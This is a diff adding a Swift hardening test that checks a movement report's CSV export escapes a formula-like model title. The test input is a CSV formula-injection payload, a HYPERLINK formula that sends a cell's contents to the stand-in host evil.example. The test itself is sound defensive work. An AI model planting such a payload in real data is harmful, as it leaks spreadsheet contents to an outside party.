@@ -49,4 +49,27 @@ struct HardeningTests {
             }
         }
     }
+
+    @Test("F5: a model titled like a formula reaches the movement report's CSV as text, not as a formula")
+    func f5FormulaInCSV() async throws {
+        try await withTestApp { app, seed in
+            let f = try await RegistryFixture.make(seed)
+            try await app.test(.router) { client in
+                let model = try await client.send(
+                    .post, "/v1/movements/\(f.movement.id)/models", token: f.union,
+                    json:
+                        #"{"title":"=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")","field":"economy","owner":{"unitId":"\#(f.collective.id)"}}"#
+                )
+                #expect(model.status == 201)
+                var csv = ""
+                try await client.execute(
+                    uri: "/v1/reports/movements/\(f.movement.id)?format=csv", method: .get, headers: Seed.headers(f.headmaster)
+                ) { response in
+                    csv = String(decoding: response.body.readableBytesView, as: UTF8.self)
+                }
+                #expect(csv.contains(#""'=HYPERLINK(""http://evil.example/?""&A1,""Xem"")""#))
+                #expect(!csv.contains(#","=HYPERLINK"#))
+            }
+        }
+    }
 }
